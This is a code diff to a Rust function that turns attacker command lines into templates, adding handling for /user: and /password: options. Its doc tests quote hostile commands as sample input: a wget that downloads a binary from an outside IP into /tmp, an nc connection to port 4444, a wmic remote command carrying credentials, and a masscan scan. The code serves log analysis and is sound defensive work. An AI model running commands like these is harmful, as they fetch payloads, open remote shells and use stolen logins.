@@ -16,6 +16,7 @@ pub const MAX_LINE: usize = 4096;
 /// # use ringleader_pipeline::extract::template::template;
 /// assert_eq!(template("wget  -O /tmp/pty1 http://159.89.156.190/.y/pty1"), "wget -O /tmp/pty1 <url>");
 /// assert_eq!(template("nc 192.0.2.7 4444"), "nc <ip> 4444");
+/// assert_eq!(template("wmic /node:192.0.2.7 /user:anna /password:hunter2"), "wmic /node:<ip> /user:<user> /password:<secret>");
 /// assert_eq!(template("masscan --rate=20000 -p80"), "masscan --rate=<num> -p80");
 /// ```
 pub fn template(text: &str) -> String {
@@ -101,6 +102,10 @@ fn type_word(word: &str, before: &str, is_program: bool, out: &mut String) {
     } else if let Some(option) = numbered(core) {
         out.push_str(option);
         out.push_str("=<num>");
+    } else if let Some((option, kind)) = credential(core) {
+        out.push_str(option);
+        out.push(':');
+        out.push_str(kind);
     } else {
         runs(
             core,
@@ -116,6 +121,19 @@ fn numbered(word: &str) -> Option<&str> {
     let (option, number) = word.split_once('=').filter(|it| it.0.starts_with('-'))?;
     let plain = option.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'));
     (plain && number.len() >= 2 && number.bytes().all(|b| b.is_ascii_digit())).then_some(option)
+}
+
+/// The option of `/user:anna` and `/password:x`: what worked differs from host to host.
+fn credential(word: &str) -> Option<(&str, &'static str)> {
+    let (option, value) = word.split_once(':').filter(|it| it.0.starts_with('/') && !it.1.is_empty())?;
+    let is = |names: &[&str]| names.iter().any(|it| option[1..].eq_ignore_ascii_case(it));
+    // `/user:HOST\\anna` is an account of that host.
+    let plain = value.bytes().all(|b| !matches!(b, b'/' | b'<'));
+    match () {
+        () if is(&["user", "username"]) && plain => Some((option, "<user>")),
+        () if is(&["password", "pass", "pwd"]) => Some((option, "<secret>")),
+        () => None,
+    }
 }
 
 /// Splits quotes and separators off both ends.
